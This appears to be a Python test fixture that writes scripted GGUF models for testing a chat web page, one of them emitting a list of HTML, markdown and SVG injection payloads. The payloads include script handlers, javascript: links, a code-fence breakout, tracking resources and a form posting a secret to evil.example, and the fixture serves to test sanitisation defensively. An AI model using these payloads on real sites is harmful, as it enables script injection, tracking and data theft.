"""Models whose words the tests of the web page know: one that reasons and calls, one that talks for
long, one that writes hostile text, one that sees."""

from __future__ import annotations

from pathlib import Path

import scripted_model
from scripted_templates import CONVERSATION
from tiny_vision import make_seeing, pixels, png

CONTROL = ("<|im_start|>", "<|im_end|>", "<|after|>")
TEMPLATE = (
    CONVERSATION
    + """\
{%- if add_generation_prompt %}<|im_start|>assistant
{% if messages[-1].role == "tool" %}<|after|>{% else %}<think>
{% endif %}
{%- endif %}"""
)
THOUGHT = "The user asks for the weather, so I call the tool."
CALL = '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Oslo"}}\n</tool_call>'
AFTER = "It rains in Oslo."
"""What the model says when it has the tool's result."""

PLAIN = "{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}"
LONG = "".join(f"Sentence number {number} of a long talk. " for number in range(400))
MARKDOWN = """\
# A heading

Some **bold** text, `code`, and a [link](https://example.org/page).

| Name | Number |
|---|---|
| one | 1 |
| two | 2 |

```python
def answer():
    return 42
```

The area is $\\pi r^2$.
"""
HOSTILE = """\
<script>window.__pwned = 1; alert(1)</script>
<img src=x onerror="window.__pwned = 2"><img src="https://evil.example/pixel.png">
![tracked](https://evil.example/tracked.png)
[click me](javascript:window.__pwned=3) [data](data:text/html,<script>parent.__pwned=4</script>)
<a href="java&#10;script:window.__pwned=5">link</a> <a href="//evil.example" target="_self">out</a>
<svg onload="window.__pwned = 6"><animate onbegin="window.__pwned=7" attributeName="x" dur="1s"/>
<use href="data:image/svg+xml,<svg id='x' onload='window.__pwned=8'/>#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=9"></style></mglyph></table>
<iframe srcdoc="<script>parent.__pwned = 10</script>"></iframe><object data="https://evil.example">
<form action="https://evil.example"><input name="secret"><button>Send</button></form>
<style>body { display: none !important } @import "https://evil.example/a.css";</style>
<link rel="stylesheet" href="https://evil.example/b.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0;background:url(https://evil.example/c.png)" id="app">cover</div>
$\\href{javascript:window.__pwned=11}{x}$ $\\includegraphics{https://evil.example/d.png}$
```html
</code></pre><script>window.__pwned = 12</script>
```
Right to left: \u202etxt.exe\u202c \u2066isolated <b><i><u> never closed
the end of it.
"""
"""Scripts, links and resources of other hosts, tags that break out, and controls of direction."""


def write_all(folder: Path) -> Path:
    """Write all models into a folder; return a picture for the one that sees."""
    script = f"{THOUGHT}\n</think>\n\nI look.\n{CALL}<|im_end|><|after|>{AFTER}<|im_end|>"
    scripted_model.write(folder / "thinker.gguf", TEMPLATE, CONTROL, script)
    for name, text in (("talker", LONG), ("writer", MARKDOWN), ("hostile", HOSTILE)):
        scripted_model.write(folder / f"{name}.gguf", PLAIN, (), text)
    make_seeing(folder)
    (folder / "broken.gguf").write_bytes(b"GGUF cut off")
    picture = folder.parent / "picture.png"
    picture.write_bytes(png(pixels(1)))
    return picture
